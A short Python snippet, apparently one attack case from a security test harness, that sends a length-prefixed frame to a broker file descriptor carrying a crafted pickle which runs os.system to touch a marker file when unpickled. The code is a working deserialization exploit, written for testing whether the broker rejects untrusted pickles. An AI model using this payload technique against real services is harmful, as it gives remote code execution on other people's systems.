# attack: raw | sends a pickle in the hope that somebody opens it
import json, os, struct
def send(header, payload=b"", length=None):
    body = header if isinstance(header, bytes) else json.dumps(header).encode()
    lengths = struct.pack("<II", len(body) if length is None else length, len(payload))
    os.write(BROKER_FD, lengths + body + payload)

send({"op": "emit", "data": {}}, b"cos\nsystem\n(S'touch " + params["written"].encode() + b"'\ntR.")
